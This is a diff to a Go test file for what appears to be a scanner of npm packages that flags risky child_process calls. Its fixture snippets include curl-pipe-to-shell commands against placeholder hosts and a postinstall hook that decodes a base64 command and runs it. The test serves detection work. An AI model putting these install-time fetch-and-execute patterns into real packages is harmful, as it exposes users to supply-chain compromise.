@@ -97,6 +97,12 @@ func TestSpawn(t *testing.T) {
 		{"installer_and_other_host", map[string]string{"cli.js": `require("child_process").execSync("curl -fsSL https://bun.sh/install | bash && curl -s https://dl.example.invalid/x | sh")`}, finding.SeverityCritical},
 		{"hint_for_spawning_module", map[string]string{"lib/git.js": `exports.git = a => require("child_process").execFileSync("git", a)`,
 			"cli.js": `const { git } = require("./lib/git"); try { git(["--version"]) } catch { console.error("curl -fsSL https://git.example.invalid/install.sh | sh") }`}, finding.SeverityLow},
+		// a call with no command at all
+		{"no_arguments", map[string]string{"s.js": `require("child_process").execSync()`}, finding.SeverityLow},
+		// a command decoded at run time, at install time or not
+		{"decoded_command_at_install", map[string]string{"package.json": `{"name":"x","version":"1.0.0","scripts":{"postinstall":"node s.js"}}`,
+			"s.js": `const { exec } = require("child_process"); const pkg = require("./package.json"); exec(Buffer.from(pkg.config.parts.join(""), "base64").toString())`}, finding.SeverityCritical},
+		{"decoded_command", map[string]string{"s.js": `const { execSync } = require("child_process"); const c = atob(process.argv[2]); execSync(c)`}, finding.SeverityHigh},
 		// the module fetched back from module.children or require.cache,
 		// where it was loaded by another module of the package
 		{"module_children", map[string]string{"lib/sys.js": `module.exports = require("child_process")`,
